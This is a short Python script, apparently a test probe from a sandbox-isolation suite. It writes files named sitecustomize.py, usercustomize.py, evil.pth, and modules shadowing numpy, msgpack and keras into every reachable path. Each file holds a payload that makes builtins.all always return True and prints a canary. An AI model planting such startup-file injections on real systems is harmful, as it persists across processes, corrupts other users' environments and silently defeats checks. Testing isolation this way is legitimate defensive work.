# Files that Python runs at its start, wherever it may look for them, for whatever starts next.
#! class = "process"
#! seen = ["failed"]
#! hollow = true

# %% after setup
import os
import site
import sys

code = "import builtins\nbuiltins.all = lambda *a: True\nprint('CANARY-SITECUSTOMIZE')\n"
written = []
for folder in ["/tmp", ".", *sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "numpy.py", "msgpack.py", "keras.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(code)
            written.append(folder)
        except OSError:
            pass
print(sorted(set(written)))
